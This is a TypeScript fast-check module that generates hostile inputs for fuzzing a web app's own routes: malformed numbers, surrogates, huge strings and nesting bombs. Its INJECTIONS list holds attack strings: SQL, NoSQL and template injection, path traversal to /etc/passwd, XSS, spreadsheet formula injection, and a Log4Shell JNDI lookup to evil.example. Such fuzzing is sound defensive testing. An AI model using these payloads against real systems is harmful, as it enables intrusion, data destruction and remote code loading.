import fc from 'fast-check';

/**
 * Hostile values for the route fuzzer: what a client can put in a path, a query string or a
 * JSON body that our own web app never would.
 */

/** A number token JSON.stringify cannot write (1e309 parses to Infinity, -0, 30 digits...). */
export class RawToken {
  constructor(readonly text: string) {}
}
/** A JSON object as ordered entries, so keys like "__proto__" are sent as written. */
export class Obj {
  constructor(readonly entries: [string, Json][]) {}
}
export type Json = string | number | boolean | null | RawToken | Obj | Json[];

/** JSON text of a generated value. */
export function toJson(value: Json): string {
  if (value instanceof RawToken) return value.text;
  if (value instanceof Obj)
    return `{${value.entries.map(([k, v]) => `${JSON.stringify(k)}:${toJson(v)}`).join(',')}}`;
  if (Array.isArray(value)) return `[${value.map(toJson).join(',')}]`;
  return JSON.stringify(value);
}

/** Percent-encoding that survives lone surrogates (sent as the bytes a sloppy client would send). */
export function percentEncode(value: string): string {
  let out = '';
  for (const char of value) {
    const code = char.charCodeAt(0);
    out +=
      char.length === 1 && code >= 0xd800 && code <= 0xdfff
        ? `%${(0xe0 | (code >> 12)).toString(16)}%${(0x80 | ((code >> 6) & 0x3f)).toString(16)}%${(0x80 | (code & 0x3f)).toString(16)}`
        : encodeURIComponent(char);
  }
  return out;
}

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  "1'; SELECT pg_sleep(5); --",
  "admin'--",
  '%',
  '_',
  '\\',
  "\\'",
  '{"$gt": ""}',
  '{"$ne": null}',
  '$where',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '....//....//',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  'true',
  '[]',
  '{}',
  '\u0000',
  'a\u0000b',
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  'שלום עולם',
  '𝕳𝖊𝖑𝖑𝖔',
  '👩‍👩‍👧‍👦',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '\uFEFF',
  '\uFFFF',
  '\r\n',
  '\t',
  ' ',
  '',
  '0',
  '-0',
  '-1',
  '1e309',
  '-1e309',
  '1e-400',
  '9007199254740993',
  '99999999999999999999999',
  '2147483648',
  '-9223372036854775809',
  '0x1F',
  '1_000',
  '١٢٣',
  '00000001',
  '1.0000000000000001',
  'CT',
  'CT0',
  'CT99999999999999999999',
  'CT2147483648',
  'ct1000001',
  'ROOTCODE',
  'TRADEWAY',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '{00000000-0000-4000-8000-000000000000}',
  '00000000000040008000000000000000',
  '2026-02-30',
  '0000-01-01',
  '0000-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '9999-12-31',
  '9999-12-31T23:59:59.999Z',
  '1970-01-01',
  '2026-13-01T00:00:00Z',
  'yesterday',
  `0x${'0'.repeat(40)}`,
  `0x${'f'.repeat(64)}`,
  '0x',
  `0X${'A'.repeat(40)}`,
];

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));

const hugeString = fc
  .tuple(
    fc.constantFrom(300, 5_000, 40_000, 70_000, 100_000),
    fc.constantFrom('a', 'é', '𝕏', '\u0000', '%', '"'),
  )
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.oneof(loneSurrogate, fc.string({ maxLength: 3 })), { maxLength: 6 })
      .map((parts) => parts.join('')),
  },
  { weight: 1, arbitrary: hugeString },
);

const RAW_NUMBERS = [
  '1e309',
  '-1e309',
  '-0',
  '1e-400',
  '123456789012345678901234567890',
  '0.1e1',
  '1E2',
];
const INVALID_TOKENS = ['NaN', 'Infinity', '-Infinity', 'undefined', '0x10', '01', '.5', '+1'];

export const nastyNumber: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom(
    0,
    -1,
    1,
    0.5,
    -0.000001,
    1e-7,
    2 ** 31,
    2 ** 31 - 1,
    -(2 ** 31),
    2 ** 53,
    -(2 ** 53),
    2 ** 63,
    1e21,
    1e308,
    Number.MAX_VALUE,
    Number.MIN_VALUE,
    123456789.12345679,
  ),
  fc.constantFrom(...RAW_NUMBERS).map((text) => new RawToken(text)),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON value, leaning on the hostile ones. */
export const nastyValue: fc.Arbitrary<Json> = fc.letrec<{ value: Json }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { weight: 5, arbitrary: nastyString },
    { weight: 3, arbitrary: nastyNumber },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 1, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.array(tie('value'), { maxLength: 4 }) },
    {
      weight: 1,
      arbitrary: fc
        .array(
          fc.tuple(
            fc.oneof(fc.constantFrom('__proto__', 'constructor', '$gt', '$where'), fc.string()),
            tie('value'),
          ),
          {
            maxLength: 3,
          },
        )
        .map((entries) => new Obj(entries)),
    },
    { weight: 1, arbitrary: fc.constantFrom(...INVALID_TOKENS).map((text) => new RawToken(text)) },
  ),
})).value;

/** Arrays nested thousands deep: a recursion bomb for naive parsers and validators. */
export const deepNesting: fc.Arbitrary<RawToken> = fc
  .constantFrom(100, 2_000, 20_000)
  .map((depth) => new RawToken(`${'['.repeat(depth)}${']'.repeat(depth)}`));

/** Content types a client may claim for a body. */
export const contentType = fc.oneof(
  { weight: 12, arbitrary: fc.constant('application/json') },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8',
      'application/json; charset=latin1',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      '',
    ),
  },
);
